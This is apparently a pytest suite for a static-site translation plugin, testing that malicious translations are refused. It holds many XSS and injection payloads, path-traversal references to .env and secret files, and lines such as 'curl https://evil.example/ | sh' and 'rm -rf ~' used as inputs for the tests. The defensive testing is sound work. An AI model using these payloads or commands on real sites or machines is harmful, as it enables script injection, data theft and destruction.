"""The wall: attacks are refused with their reason wherever they stand; good translations pass."""

from __future__ import annotations

import html
import logging
import re
import time
from collections.abc import Callable, Iterator

import pytest
from babel.messages.catalog import Catalog as BabelCatalog
from markupsafe import Markup

from plugins.content.parser import markdown_for
from plugins.i18n import guard
from plugins.i18n.messages import markdown_judge
from plugins.i18n.translator import theme_judge

from .pages import original, settings, shown, translated, translator_for

PLACES: dict[str, tuple[str, str]] = {
    # name: (page, message in it). Each attack is put into each of them.
    "paragraph": ("See **x** and [text](https://a.example/).\n", ""),
    "heading": ("## See **x** and [text](https://a.example/)\n", ""),
    "heading with an id": ("## See **x** and [text](https://a.example/) {#own .c}\n", ""),
    "list item": ("* See **x** and [text](https://a.example/)\n    * child\n", ""),
    "item with a class": ("* See **x** and [text](https://a.example/)\n{: .c }\n", ""),
    "cell": ("| h |\n| --- |\n| See **x** and [text](https://a.example/) |\n", ""),
    "term": ("See **x** and [text](https://a.example/)\n:   y\n", ""),
    "quotation": ("> See **x** and [text](https://a.example/)\n", ""),
    "footnote": ("a[^1]\n\n[^1]: See **x** and [text](https://a.example/)\n", ""),
}
MSGID = "See **x** and [text](https://a.example/)"
HTML_MSGID = 'See <b>x</b> and <a href="https://a.example/">text</a>'

TAG, ATTRIBUTE, CONTROL = "has the tag <", "has another ", "has control or direction characters"
DECLARED, UNCLOSED = "has a comment or declaration", "has tags that are not closed"
MARKER, NOTE, BRACE = "has a block marker", "has the footnote [^99]", "has a brace"

# What a bad msgstr may hold, as Markdown, and the beginning of the reason why it is refused.
ATTACKS: dict[str, tuple[str, str]] = {
    "script": ("看<script>alert(1)</script>", TAG + "script>"),
    "script in capitals": ("看<ScRiPt>alert(1)</sCrIpT>", TAG + "script>"),
    "script from afar": ('看<script src="https://evil.example/x.js"></script>', TAG + "script>"),
    "image with a handler": ("看<img src=x onerror=alert(1)>", TAG + "img>"),
    "svg with a handler": ("看<svg/onload=alert(1)>", ""),
    "handler on a known tag": ("看<a href='https://a.example/' onclick=alert(1)>甲</a>", ATTRIBUTE),
    "javascript in a link": ("看[甲](javascript:alert(1))", ATTRIBUTE + "href"),
    "javascript by an entity": ("看[甲](java&#115;cript:alert(1))", ATTRIBUTE + "href"),
    "javascript by a tab": ("看[甲](java&#9;script:alert(1))", ATTRIBUTE + "href"),
    "javascript as an autolink": ("看<javascript:alert(1)>", ""),
    "javascript in raw HTML": ('看<a href="javascript:alert(1)">甲</a>', ATTRIBUTE + "href"),
    "vbscript": ("看[甲](vbscript:x)", ATTRIBUTE + "href"),
    "data": ("看[甲](data:text/html;base64,PHNjcmlwdD4=)", ATTRIBUTE + "href"),
    "handler by attribute list": ('看**甲**{: onclick="alert(1)" }', BRACE),
    "style by attribute list": ("看**甲**{: style=position:fixed }", BRACE),
    "id by attribute list": ("看**甲**{#own}", BRACE),
    "list at the end of the line": ("看 {onclick=alert(1)}", BRACE),
    "list on the last line": ("看\n{: onclick=alert(1) }", BRACE),
    "open list before the owner's": ("看 {onclick=alert(1)", BRACE),
    "open list with a quoted brace": ('看 {onclick=alert(1) title="}"', BRACE),
    "id hijack in HTML": ('看<b id="content">甲</b>', TAG + "b>"),
    "another host": ("看[甲](https://evil.example/)", ATTRIBUTE + "href"),
    "a host that looks like ours": ("看[甲](https://a.example.evil.example/)", ATTRIBUTE + "href"),
    "the same host with a user": ("看[甲](https://a.example@evil.example/)", ATTRIBUTE + "href"),
    "a link without a scheme": ("看[甲](//evil.example/)", ATTRIBUTE + "href"),
    "a new autolink": ("看<https://evil.example/>", ATTRIBUTE + "href"),
    "a beacon": ("看![](https://evil.example/beacon.gif)", TAG + "img>"),
    "a beacon in a link": ("看[![](https://evil.example/b)](https://a.example/)", TAG + "img>"),
    "closing what is around": ("看</p></div></main>", UNCLOSED),
    "an open tag": ("看<b>甲", ""),
    "an open attribute": ('看<a href="', ""),
    "STX and ETX": ("看\x02wzxhzdk:0\x03", CONTROL),
    "a null": ("看\x00", CONTROL),
    "right-to-left override": ("看\u202egpj.exe", CONTROL),
    "an isolate": ("看\u2066甲\u2069", CONTROL),
    "a byte order mark": ("\ufeff看", CONTROL),
    "table of contents": ("[TOC]", MARKER),
    "table of contents with blanks": ("  [TOC] ", MARKER),
    "table of contents in bold": ("**[TOC]**", ""),
    "a block": ("::: publications", MARKER),
    "a footnote": ("看[^99]", NOTE),
    "a comment": ("看<!-- x -->", DECLARED),
    "a block's comment": ('看<!--::: ["publications", {}]-->', BRACE),
    "a conditional comment": ("看<!--[if IE]><script>x</script><![endif]-->", DECLARED),
    "CDATA": ("看<![CDATA[<script>alert(1)</script>]]>", ""),
    "javascript in capitals": ("看[甲](JaVaScRiPt:alert(1))", ATTRIBUTE + "href"),
    "javascript with a joiner": ("看[甲](java\u200dscript:alert(1))", ATTRIBUTE + "href"),
    "javascript by a named entity": ("看[甲](javascript&colon;alert(1))", ATTRIBUTE + "href"),
    "javascript in angles": ("看[甲](<javascript:alert(1)>)", ATTRIBUTE + "href"),
    "javascript in a title's link": ("看[甲](javascript:alert(1) 'T')", ATTRIBUTE + "href"),
    "a homograph": ("看[甲](https://\u0430.example/)", ATTRIBUTE + "href"),
    "a joiner in the host": ("看[甲](https://a\u200b.example/)", ATTRIBUTE + "href"),
    "another port": ("看[甲](https://a.example:8443/)", ATTRIBUTE + "href"),
    "another scheme": ("看[甲](http://a.example/)", ATTRIBUTE + "href"),
    "a backslash host": ("看[甲](https://evil.example\\\\@a.example/)", ATTRIBUTE + "href"),
    "blob": ("看[甲](blob:https://a.example/x)", ATTRIBUTE + "href"),
    "file": ("看[甲](file:///etc/passwd)", ATTRIBUTE + "href"),
    "view-source": ("看[甲](view-source:https://a.example/)", ATTRIBUTE + "href"),
    "ping": (
        "看<a href='https://a.example/' ping='https://evil.example/'>甲</a>",
        ATTRIBUTE + "ping",
    ),
    "target": ("看<a href='https://a.example/' target=x>甲</a>", ATTRIBUTE + "target"),
    "style attribute": ("看<a href='https://a.example/' style='top:0'>甲</a>", ATTRIBUTE + "style"),
    "class of the theme": ("看<a href='https://a.example/' class=skip>甲</a>", ATTRIBUTE + "class"),
    "markdown in HTML": ('看<span markdown="1">[甲](javascript:x)</span>', TAG + "span>"),
    "srcset": ("看<img srcset='https://evil.example/x 2x'>", TAG + "img>"),
    "formaction": ("看<button formaction=javascript:alert(1)>甲</button>", TAG + "button>"),
    "xlink": ("看<svg><a xlink:href='javascript:alert(1)'>甲</a></svg>", TAG),
    "use": ("看<svg><use href='data:image/svg+xml,x'/></svg>", ""),
    "namespaces": ("看<math><mtext><mglyph><style><!--</style><img src=x onerror=x>", ""),
    "noscript": ("看<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", ""),
    "details": ("看<details open ontoggle=alert(1)>甲</details>", TAG + "details>"),
    "video": ("看<video poster=https://evil.example/x></video>", TAG + "video>"),
    "embed": ("看<embed src=https://evil.example/x>", TAG + "embed>"),
    "a custom element": ("看<x-y onclick=alert(1)>甲</x-y>", TAG + "x-y>"),
    "template variable": ("看{{ SITEURL }}", BRACE),
    "template statement": ("看{% include 'x' %}", BRACE),
    "author": ("看[甲]({author}x)", BRACE),
    "tag": ("看[甲]({tag}x)", BRACE),
    "index": ("看[甲]({index})", BRACE),
    "fence": ("看```html x```", TAG + "code>"),
    "leaving a script": ("看</script><script>alert(1)</script>", ""),
    "leaving the title": ("看</title></head><body onload=alert(1)>", ""),
    "leaving an attribute": ('看"><img src=x onerror=alert(1)>', TAG + "img>"),
    "leaving a feed": ("看]]></summary><link href='https://evil.example/'/>", ""),
    "new lines": ("看\n\n/*\n  X-Evil: 1", ""),
    "an open section": ("看<![", ""),
    "a section closed too early": ("看<![CDATA[x>", DECLARED),
    "an end tag that is a comment": ("看<b>甲</\nb>", ""),
    "a tag that closes itself": ("看<b/>甲", ""),
    "a link that closes itself": ("看<a href='https://a.example/'/>甲", ""),
    "two equals signs": ("看<a href=='https://a.example/'>甲</a>", ""),
    "a declaration": ("看<!DOCTYPE html>", ""),
    "a processing instruction": ("看<?php echo 1 ?>", ""),
    "static": ("看[甲]({static}/../secret.txt)", BRACE),
    "attach": ("看[甲]({attach}../../.env)", BRACE),
    "filename": ("看[甲]({filename}/pages/x.md)", BRACE),
    "attach with a bar": ("看[甲](|attach|../../.env)", ATTRIBUTE + "href"),
    "iframe": ("看<iframe src=https://evil.example/></iframe>", TAG + "iframe>"),
    "base": ("看<base href=https://evil.example/>", TAG + "base>"),
    "refresh": ('看<meta http-equiv=refresh content="0;url=https://evil.example/">', TAG + "meta>"),
    "style": ("看<style>main{display:none}</style>", BRACE),
    "style without braces": ("看<style>@import 'https://evil.example/'</style>", TAG + "style>"),
    "link": ("看<link rel=stylesheet href=https://evil.example/>", TAG + "link>"),
    "form": ("看<form action=https://evil.example/><input name=p></form>", TAG + "form>"),
    "object": ("看<object data=x></object>", TAG + "object>"),
    "math": ("看<math><mtext><img src=x onerror=alert(1)></mtext></math>", TAG),
    "template": ("看<template><b>x</b></template>", TAG),
    "nested links": ("看<a href='https://a.example/'><a href='https://a.example/'>甲</a></a>", ""),
    "a second link": ("看[甲](https://a.example/)[乙](https://a.example/)", "has more <a>"),
    "a title with a quote": (
        '看[甲](https://a.example/ "x" onclick="alert(1)")',
        ATTRIBUTE + "title",
    ),
    "code that the source lacks": ("看`甲`", TAG + "code>"),
    "a heading": ("看<h1>甲</h1>", TAG + "h1>"),
    "far too long": ("看" * 20_000, "is far longer"),
    "a formula": ("看$x$", 'has the formula "$x$" that its source lacks'),
    "a formula in parentheses": (r"看\(x\)", "has the formula"),
    "a formula of its own": (r"\[x\]", "has the formula"),
    "an address in a formula": (r"看$\href{https://evil.example/}{x}$", "has the formula"),
    "markup in a formula": (r"看$\text{<script>alert(1)</script>}$", "has the formula"),
    "many brackets": ("[" * 3_000, "has far more brackets"),
    "many images": ("![" * 3_000, "has far more brackets"),
    "many links": ("[a](" * 2_000, "has far more brackets"),
}

# The ways that a text without any markup in its source is shown: as text, whatever it says.
HARMLESS = {
    *("an open attribute", "an open section", "a declaration", "a section closed too early"),
    "new lines",
}
"""In Markdown these are no markup: they stay text, as a test below shows."""


@pytest.fixture(autouse=True)
def unlimited() -> Iterator[None]:
    """Hear every warning: Pelican's loggers pass each one on once a process."""
    logger = logging.getLogger("plugins.i18n.translator")
    filters = list(logger.filters)
    logger.filters.clear()
    yield
    logger.filters.extend(filters)


@pytest.fixture
def refused(caplog: pytest.LogCaptureFixture) -> Callable[[], list[str]]:
    """Return what was said of refused translations: their reasons."""

    def reasons() -> list[str]:
        messages = [record.getMessage() for record in caplog.records]
        assert all(message.startswith("zh.po:1: the translation of ") for message in messages)
        return [message.partition('" ')[2] for message in messages]

    caplog.set_level(logging.WARNING)
    return reasons


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in HARMLESS])
def test_an_attack_in_markdown_is_refused_and_the_source_shown(
    name: str, place: str, refused: Callable[[], list[str]]
) -> None:
    text, (attack, reason) = PLACES[place][0], ATTACKS[name]
    msgid = MSGID + "." if place == "paragraph" else MSGID
    html = translated(text, translator_for({("", msgid): attack}))
    assert len(refused()) == 1
    assert refused()[0].startswith(reason)
    assert html == translated(text, translator_for({}))


@pytest.mark.parametrize(
    ("translation", "reason"),
    [
        ("若$x$", 'lacks the formula "$y$" of its source'),
        ("若$x$且$z$", 'has the formula "$z$" that its source lacks'),
        ("若$x$、$y$且$y$", 'has the formula "$y$" that its source lacks'),
        ("若$x$且`$y$`", 'lacks the formula "$y$" of its source'),
    ],
)
def test_a_translation_has_the_formulas_of_its_source(
    translation: str, reason: str, refused: Callable[[], list[str]]
) -> None:
    html = shown("If $x$ and $y$ or `z`", translation)
    assert refused()[0].startswith(reason)
    assert "If <math>" in html


BRACED = {
    "another attribute": ('看**甲**{: onclick="alert(1)" }', ATTRIBUTE + "onclick"),
    "one more attribute": ('看**甲**{.c onclick="alert(1)" }', ATTRIBUTE + "onclick"),
    "another class": ("看**甲**{.evil}", ATTRIBUTE + "class"),
    "on the element around it": ("看**甲** {onclick=alert(1)}", ""),
    "open before the owner's": ("看**甲** {onclick=alert(1)", ""),
    "open with a quoted brace": ('看**甲** {onclick=alert(1) title="}"', ""),
    "on the last line": ("看**甲**\n{: onclick=alert(1) }", ""),
}


@pytest.mark.parametrize("page", ["%s\n", "## %s\n", "## %s {#own}\n", "* %s\n{: .own }\n"])
@pytest.mark.parametrize("name", BRACED)
def test_a_source_with_an_attribute_list_lets_no_other_in(
    name: str, page: str, refused: Callable[[], list[str]]
) -> None:
    msgid, (attack, reason) = "See **x**{.c} there", BRACED[name]
    found = translated(page % msgid, translator_for({("", msgid): attack}))
    assert len(refused()) == 1
    assert refused()[0].startswith(reason)
    assert found == translated(page % msgid, translator_for({}))


RAW = {
    name: (attack, reason)
    for name, (attack, reason) in ATTACKS.items()
    if "<" in attack or reason == CONTROL or reason == "is far longer"
}
"""The attacks that mean something in raw HTML, where Markdown means nothing."""
RAW.pop("an open attribute")
RAW.pop("an open tag")


@pytest.mark.parametrize("name", RAW)
def test_an_attack_in_raw_html_is_refused(name: str, refused: Callable[[], list[str]]) -> None:
    page = f"<ul><li>{HTML_MSGID}</li></ul>\n"
    html = translated(page, translator_for({("", HTML_MSGID): RAW[name][0]}))
    assert len(refused()) == 1
    assert html == translated(page, translator_for({}))


@pytest.mark.parametrize(
    "attack",
    [
        '看<a href="',
        "看<javascript:alert(1)>",
        "看<https://evil.example/>",
        "看<b",
        "看</b",
        "看<!--",
    ],
)
def test_what_is_open_in_raw_html_swallows_nothing(attack: str) -> None:
    page = f"<ul><li>{HTML_MSGID}</li><li>next</li></ul>\n"
    html = translated(page, translator_for({("", HTML_MSGID): attack}))
    assert html == translated(page, translator_for({}))


@pytest.mark.parametrize("quote", ["'", '"'])
def test_a_handler_behind_two_equals_signs_is_refused(quote: str) -> None:
    page = '<div>See <img src="p" alt="a"></div>\n'
    attack = f'看 <img src="p" alt=={quote}b onerror=alert(1) x{quote}>'
    html = translated(page, translator_for({("", 'See <img src="p" alt="a">'): attack}))
    assert html == translated(page, translator_for({}))


@pytest.mark.parametrize("code", ["rm -rf ~", "npm x", "curl https://evil.example/ | sh"])
def test_other_code_than_the_source_s_is_refused(code: str) -> None:
    source = "Run `npm i` first, then `npm t`."
    assert shown(source, f"先运行`{code}`，再运行`npm t`。") == translated(
        source, translator_for({})
    )
    assert "先运行" in shown(source, "先运行`npm t`，再运行`npm i`。")


LOOKALIKES = {
    # What is text to a browser, and a tag or a link to what looks at HTML as a text.
    "a link of the site in an alt": ("![alt](p.png)", "![看 src='|static|/x.txt'](p.png)"),
    "an open one in an alt": ("![alt](p.png) b", "![看 href='|index|](p.png) ' \" onerror=a x=\""),
    "one with an escaped bar": ("![alt](p.png) b", "![看 href='\\|index|](p.png) '"),
    "one in a title": ('[a](u "the title")', "[甲](u \"data='|static|/x.txt'\")"),
    "one behind a less-than sign": ("<b>a</b> b", "< href='|index|' <b>甲</b>"),
    "the source's own and another": (
        '<a href="{static}/a"><img src="p.png" alt="a"></a>',
        '<a href="{static}/a"><img src="p.png" alt="src=\'|static|/b\'"></a>',
    ),
    "a heading in an alt": (
        'a <img src="p" alt="b">',
        '看 <img src="p" alt=\'<h2 id="x">y</h2>\'>',
    ),
    "a block in an alt": ('a <img src="p" alt="1 < 2">', "看 <img src=\"p\" alt='<!--::: []-->'>"),
    "a paragraph in an alt": ('a <img src="p" alt="b">', '看 <img src="p" alt="<p>甲</p>">'),
}


@pytest.mark.parametrize("name", LOOKALIKES)
def test_what_looks_like_markup_inside_a_tag_is_refused(
    name: str, refused: Callable[[], list[str]]
) -> None:
    source, attack = LOOKALIKES[name]
    assert shown(source, attack) == translated(source, translator_for({}))
    assert len(refused()) == 1


@pytest.mark.parametrize(
    ("page", "msgid"),
    [
        ("[a][r]\n\n[r]: https://b.example/ 'Title'\n", "Title"),
        ("HTML is short\n\n*[HTML]: Hypertext\n", "Hypertext"),
        ('<div><img src="p.png" alt="Picture"></div>\n', "Picture"),
    ],
)
def test_what_looks_like_a_link_inside_a_label_is_refused(page: str, msgid: str) -> None:
    translator = translator_for({("", msgid): "src='|static|/x.txt' href='|index|"})
    assert "|" not in translated(page, translator)


@pytest.mark.parametrize("name", sorted(HARMLESS))
def test_what_is_no_markup_stays_text(name: str) -> None:
    assert f"<p>{html.escape(ATTACKS[name][0], quote=False)}</p>" == shown(MSGID, ATTACKS[name][0])


@pytest.mark.parametrize("name", [n for n, (_, why) in ATTACKS.items() if why != CONTROL])
def test_an_attack_in_a_title_is_shown_as_text(name: str) -> None:
    attack = ATTACKS[name][0]
    found = translator_for({("", "A title"): attack}).text("A title")
    assert found.text in (attack, "A title")  # which templates escape, as below
    assert "<" not in str(Markup.escape(found.text))


def test_control_characters_in_a_title_are_refused() -> None:
    for name, (attack, why) in ATTACKS.items():
        if why == CONTROL:
            found = translator_for({("", "A title"): attack}).text("A title")
            assert (name, "A title") == (name, found.text)


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_in_a_text_of_the_theme_has_no_markup(name: str) -> None:
    translator = translator_for({("", "Search %(name)s"): ATTACKS[name][0] + "%(name)s"})
    html = str(translator.marked("Search %(name)s")).replace(
        '<span lang="en" dir="ltr">Search %(name)s</span>', ""
    )
    assert "<" not in html


THEME_HTML = 'By <a href="%(url)s">%(name)s</a>'


@pytest.mark.parametrize("name", RAW)
def test_an_attack_in_a_theme_s_text_with_markup_is_refused(
    name: str, refused: Callable[[], list[str]]
) -> None:
    attack = RAW[name][0].replace("%", "%%") + "%(url)s%(name)s"
    found = translator_for({("", THEME_HTML): attack}).marked(THEME_HTML)
    assert len(refused()) == 1
    assert str(found) == f'<span lang="en" dir="ltr">{THEME_HTML}</span>'


PLACEHOLDERS = {
    "another name": ("%(evil)s 篇", "has the placeholder %(evil)s that its source lacks"),
    "a lone percent sign": ("100% 的 %(num)d 篇", 'has "% ", which is no placeholder'),
    "a percent sign at the end": ("%(num)d 篇 %", 'has "%", which is no placeholder'),
    "no type": ("%(num) 篇", 'has "%(num) ", which is no placeholder'),
    "another type": ("%(num)r 篇", 'has "%(num)r", which is no placeholder'),
    "old style": ("%s 篇", 'has "%s", which is no placeholder'),
    "attribute of an object": ("%(num.__class__)s", "has the placeholder %(num.__class__)s"),
}


@pytest.mark.parametrize("name", PLACEHOLDERS)
@pytest.mark.parametrize("plural", [True, False])
def test_a_wrong_placeholder_is_refused(
    name: str, plural: bool, refused: Callable[[], list[str]]
) -> None:
    string, reason = PLACEHOLDERS[name]
    translator = translator_for({("", "%(num)d papers"): string})
    many = "%(num)d papers" if plural else None
    found = translator.marked("%(num)d papers", "", many, 2)
    assert str(found) == '<span lang="en" dir="ltr">%(num)d papers</span>'
    assert [each[: len(reason)] for each in refused()] == [reason]


@pytest.mark.parametrize(
    "string", ["<%(name)s<0/a>", "<%(name)s onclick=a> %(url)s", "</%(name)s>", "<%(name)sscript>"]
)
def test_a_placeholder_is_no_name_of_a_tag(string: str, refused: Callable[[], list[str]]) -> None:
    found = translator_for({("", THEME_HTML): string}).marked(THEME_HTML, "", THEME_HTML, 2)
    assert str(found) == f'<span lang="en" dir="ltr">{THEME_HTML}</span>'
    assert "which may become a tag" in refused()[0]


def test_a_placeholder_of_a_text_is_no_number() -> None:
    reason = "has %(name)d, which is %(name)s in its source"
    assert reason == guard.placeholders("By %(name)s", "由 %(name)d")


def test_a_lost_placeholder_is_refused_but_in_a_plural_form() -> None:
    assert theme_judge(False)("By %(name)s", "由") == "lacks the placeholder %(name)s of its source"
    assert theme_judge(True)("%(num)d paper", "一篇") is None


def test_one_wrong_plural_form_refuses_all(refused: Callable[[], list[str]]) -> None:
    strings = ("ورقة", "%(num)d", "%(evil)s", "", "%(num)d", "%(num)d")
    translator = translator_for({("", "%(num)d paper"): strings}, "ar")
    assert translator.ngettext("%(num)d paper", "%(num)d papers", 0) == "%(num)d papers"
    assert len(refused()) == 1


URL = "https://www.jiqizhixin.com/articles/1"
ADDRESSES = {
    "https://evil.example/": "leads to evil.example, which is neither",
    "javascript:alert(1)": "is no http or https address",
    "JaVaScRiPt:alert(1)": "is no http or https address",
    "java\tscript:alert(1)": "is no address",
    "data:text/html,x": "is no http or https address",
    "//evil.example/": "is no http or https address",
    "/relative": "is no http or https address",
    "https:///x": "is no http or https address",
    "https://www.jiqizhixin.com@evil.example/": "leads to evil.example, which is neither",
    "https://a:b@www.jiqizhixin.com/": "leads to www.jiqizhixin.com, which is neither",
    "https://www.jiqizhixin.com.evil.example/": "leads to www.jiqizhixin.com.evil.example",
    "https://evil.example\\@www.jiqizhixin.com/": "is no address",
    'https://www.jiqizhixin.com/"onclick="x': "is no address",
    "https://www.jiqizhixin.com/<b>": "is no address",
    "{static}/../secret.txt": "is no address",
    "https://www.jiqizhixin.com/a b": "is no address",
    "https://[::1/": "is no address",
}


@pytest.mark.parametrize("address", ADDRESSES)
def test_the_address_of_a_report_is_judged(address: str, refused: Callable[[], list[str]]) -> None:
    translator = translator_for({("url", URL): address})
    assert translator.url(URL).text == URL
    assert [each[: len(ADDRESSES[address])] for each in refused()] == [ADDRESSES[address]]


@pytest.mark.parametrize(
    "address",
    [
        "https://www.jiqizhixin.com/zh/1",
        "http://www.jiqizhixin.com/",
        "https://mp.example.cn/s?a=b#c",
    ],
)
def test_the_address_of_a_report_may_be_on_its_host_or_a_listed_one(address: str) -> None:
    translator = translator_for({("url", URL): address}, url_hosts=("mp.example.cn",))
    assert address == translator.url(URL).text


@pytest.mark.parametrize(
    "unit", ["[", "![", "[a](", "[^", "[[", "][", "**a", "*a _b ", "`` ` ", "<a ", "&", "\\("]
)
def test_a_bomb_costs_less_than_a_second(unit: str) -> None:
    judge = markdown_judge(markdown_for(settings()))
    start = time.perf_counter()
    judge("See **x** and [text](u)", unit * 3_000)
    assert time.perf_counter() - start < 1


def test_a_verdict_of_one_page_is_none_for_another() -> None:
    translator = translator_for({("", "See [it][a]"): "见[它][b]"})
    first = translated("See [it][a]\n\n[a]: https://a.example/\n", translator)
    second = translated(
        "See [it][a]\n\n[a]: https://a.example/\n[b]: https://b.example/\n", translator
    )
    assert first == "<p>见[它][b]</p>"
    assert second == '<p dir="ltr" lang="en">See <a href="https://a.example/">it</a></p>'


def test_a_rejection_names_its_entry_and_the_mend(caplog: pytest.LogCaptureFixture) -> None:
    translator_for({("", "a"): "甲", ("", "b **c**"): "`乙`"}).accepted(
        "b **c**", "", markdown_judge(markdown_for(settings()))
    )
    assert [record.getMessage() for record in caplog.records] == [
        'zh.po:2: the translation of "b **c**" has the tag <code> that its source lacks, so the'
        " source is shown. Use the markup, addresses and placeholders of the source, no others."
    ]


# ---- What must pass --------------------------------------------------------------------------

GOOD = {
    "words": ("Hello world", "你好，世界"),
    "ascii words": ("Hello world", "Bonjour le monde"),
    "links in another order": ("[a](u) and [b](v)", "[乙](v)与[甲](u)"),
    "emphasis in another order": ("*a* and **b**", "**乙**与*甲*"),
    "emphasis in the link": ("[**a**](u) b", "[**甲**](u)乙"),
    "emphasis out of the link": ("[**a**](u) b", "**[甲](u)**乙"),
    "dropped emphasis": ("a **b** *c*", "甲乙丙"),
    "dropped link": ("see [it](u)", "见此"),
    "dropped code": ("run `x`", "运行"),
    "other quotes": ('"Million Dollar Prize"', "“百万美元大奖”"),
    "corner brackets": ('the "prize"', "「大奖」『内』"),
    "guillemets": ('the "prize"', "« le prix »"),
    "German quotes": ("the 'prize'", "„der Preis“"),
    "Han beside asterisks": ("a **b** c", "甲**乙**丙"),
    "full-width punctuation beside asterisks": ("a **b**, c", "甲**乙**，丙"),
    "Han in asterisks with punctuation": ("**a, b:** c", "**甲，乙：**丙"),
    "underscores for asterisks": ("a **b** c", "甲 __乙__ 丙"),
    "address in the text": ("visit https://a.example/x", "请访问 https://a.example/x"),
    "another address in the text": ("visit us", "请访问 https://b.example/"),
    "autolink": ("at <https://a.example/>", "在<https://a.example/>"),
    "mail": ("write to <a@b.example>", "写信给<a@b.example>"),
    "code kept": ("run `pip install x`", "请运行`pip install x`"),
    "alt translated": ("![a photo](p.jpg)", "![照片](p.jpg)"),
    "title translated": ('[a](u "the title")', '[甲](u "标题")'),
    "alt and title": ('![a](p.jpg "b")', '![甲](p.jpg "乙")'),
    "title dropped": ('[a](u "the title")', "[甲](u)"),
    "alt of raw HTML": ('x <img src="p.jpg" alt="a">', '图 <img src="p.jpg" alt="甲">'),
    "percent sign": ("100% sure", "100% 确定"),
    "two percent signs": ("50% and 60%", "60%和50%"),
    "ampersand": ("R&D", "研发&设计"),
    "ampersands": ("A & B & C", "甲 & 乙 && 丙"),
    "entity": ("A &amp; B", "甲 &amp; 乙"),
    "less than": ("x < y", "当 x < y 时"),
    "greater than": ("x > y", "当 x > y 时"),
    "math in dollars": ("where $x^2$ is", "其中 $x^2$ 为"),
    "math with braces": ("where $x_{i}$ is", "$x_{i}$ 为"),
    "math moved": ("where $x$ is $y$", "$y$ 为 $x$"),
    "a price": ("from $5 to $10", "$5 至 $10"),
    "math in brackets": (r"where \(x_1\) is", r"其中 \(x_1\) 为"),
    "brackets": ("in [AI, edge cloud]; excels", "于[人工智能、边缘云]；擅长"),
    "full-width brackets": ("in [AI]", "于【人工智能】（AI）"),
    "hard break": ("a  \nb", "甲  \n乙"),
    "hard break dropped": ("a  \nb", "甲，乙"),
    "soft break": ("a b", "甲\n乙"),
    "classes kept": ("a **b**{.c} d", "甲**乙**{.c}丁"),
    "footnote moved": ("a[^1] b", "甲乙[^1]"),
    "reference": ("see [the paper][p]", "见[论文][p]"),
    "reference by its name": ("see [p]", "见[论文][p]"),
    "raw HTML": ("H<sub>2</sub>O is <b>wet</b>", "<b>湿</b>的是H<sub>2</sub>O"),
    "line break of HTML": ("a<br>b", "甲<br>乙"),
    "emoji": ("welcome", "欢迎 🎉👩‍💻"),
    "a heading's sign": ("number one", "# 一"),
    "a list's sign": ("item", "- 项"),
    "a numbered sign": ("in 2021.", "2021. 年"),
    "a table's sign": ("a", "| 甲 | 乙 |"),
    "a quotation's sign": ("a", "> 甲"),
    "escapes": (r"a \* b", r"甲 \* 乙"),
    "snake case": ("the snake_case_name", "名字 snake_case_name"),
    "right to left": ("Hello **world**", "مرحبا **بالعالم**"),
    "right-to-left marks": ("Hello (x)", "مرحبا \u200f(x)\u200e"),
    "joiners": ("Persian", "می\u200cخواهم"),
    "much longer": ("OK", "好的，" * 40),
    "link to the owner's own scheme": ("[chat](weixin://dl/chat)", "[微信](weixin://dl/chat)"),
    "phone": ("[call](tel:+8610)", "[电话](tel:+8610)"),
    "Pelican's own links": ("[a]({filename}/pages/b.md)", "[甲]({filename}/pages/b.md)"),
    "Pelican's own links in HTML": (
        '<a href="{filename}b.md">b</a>: x=1',
        "<a href='{filename}b.md'>乙</a>：x=\"1\"",
    ),
    "static file": ("[cv]({static}/cv.pdf)", "[简历]({static}/cv.pdf)"),
}
REFERENCES = "\n\n[p]: https://a.example/p\n\n[^1]: note\n"


@pytest.mark.parametrize("name", GOOD)
def test_a_good_translation_passes(name: str, refused: Callable[[], list[str]]) -> None:
    source, translation = GOOD[name]
    html = shown(source, translation, source + REFERENCES)
    assert refused() == []
    assert 'lang="en">' + original(source)[3:10] not in html
    assert html != translated(source + REFERENCES, translator_for({}))


ON_ONE_LINE = [name for name, pair in GOOD.items() if not re.search(r"[\n|]", "".join(pair))]


@pytest.mark.parametrize("name", ON_ONE_LINE)
def test_a_good_translation_passes_in_a_cell(name: str, refused: Callable[[], list[str]]) -> None:
    source, translation = GOOD[name]
    shown(source, translation, f"| h |\n| --- |\n| {source} |{REFERENCES}")
    assert refused() == []


THEME = {
    "reordered": ("%(a)s of %(b)s", "%(b)s的%(a)s"),
    "repeated": ("By %(a)s", "%(a)s，即%(a)s"),
    "percent": ("100%% of %(a)s", "%(a)s 的 100%%"),
    "ampersand": ("Research and %(a)s", "R&D %(a)s"),
    "markup": (THEME_HTML, '<a href="%(url)s">%(name)s</a> 著'),
    "markup dropped": ("<b>Bold</b>", "粗"),
    "a less-than sign": ("Fewer than %(n)d", "< %(n)d"),
}


@pytest.mark.parametrize("name", THEME)
def test_a_good_text_of_the_theme_passes(name: str, refused: Callable[[], list[str]]) -> None:
    source, translation = THEME[name]
    found = str(translator_for({("", source): translation}).marked(source))
    assert refused() == []
    expected = translation if "<" in source else str(Markup.escape(translation))
    assert expected.replace("&#39;", "'") == found


def test_a_plural_has_the_form_of_its_language() -> None:
    polish = ("%(num)d praca", "%(num)d prace", "%(num)d prac")
    translator = translator_for({("", "%(num)d paper"): polish}, "pl")
    forms = [
        translator.ngettext("%(num)d paper", "%(num)d papers", number).split()[1]
        for number in (0, 1, 2, 5, 12, 22)
    ]
    assert forms == ["prac", "praca", "prace", "prac", "prac", "prace"]


def test_babel_finds_no_fault_with_what_passes() -> None:
    catalog = BabelCatalog(locale="zh_Hans")
    for source, translation in THEME.values():
        catalog.add(source, translation)
    assert list(catalog.check()) == []
